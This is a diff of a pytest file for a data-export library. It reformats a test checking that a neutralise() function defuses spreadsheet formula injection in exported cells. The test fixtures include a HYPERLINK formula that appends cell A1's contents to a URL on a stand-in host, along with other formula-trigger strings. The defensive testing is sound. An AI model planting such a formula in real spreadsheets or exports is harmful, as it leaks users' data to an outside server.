@@ -12,7 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from sse_atlas.exports.csvfile import CsvExporter
-from sse_atlas.exports.table import ENTITIES, UnknownEntityError, columns, flatten, neutralise
+from sse_atlas.exports.table import ENTITIES, Cell, UnknownEntityError, columns, flatten, neutralise
 from sse_atlas.exports.xlsx import XlsxExporter
 from sse_atlas.model import Catalogue, Dataset, Initiative
 
@@ -177,9 +177,18 @@ FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
 
 
 def test_table_neutralise_formula_starts() -> None:
-    assert [
-        neutralise(cell) for cell in [FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", -7.5, 3]
-    ] == [f"'{FORMULA}", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "a=b", -7.5, 3]
+    cells: list[Cell] = [FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", -7.5, 3]
+    assert [neutralise(cell) for cell in cells] == [
+        f"'{FORMULA}",
+        "'+1",
+        "'-x",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "a=b",
+        -7.5,
+        3,
+    ]
 
 
 def _formula_dataset() -> Dataset:
